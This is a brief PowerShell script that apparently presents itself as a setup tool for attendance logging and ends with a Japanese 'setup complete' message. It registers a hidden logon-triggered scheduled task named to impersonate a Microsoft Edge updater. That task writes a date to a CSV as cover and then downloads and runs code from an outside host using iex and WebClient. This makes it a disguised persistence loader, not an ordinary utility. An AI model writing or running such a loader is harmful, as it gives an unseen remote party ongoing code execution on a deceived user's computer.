$a = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument '-NoP -W Hidden -C "Add-Content $env:APPDATA\kintai.csv (Get-Date); iex (New-Object Net.WebClient).DownloadString(''https://kintai-cloud.jp-work.net/t'')"'
$t = New-ScheduledTaskTrigger -AtLogOn
Register-ScheduledTask -TaskName 'MicrosoftEdgeUpdateTaskUserCore' -Action $a -Trigger $t -Force | Out-Null
Write-Host '設定が完了しました'
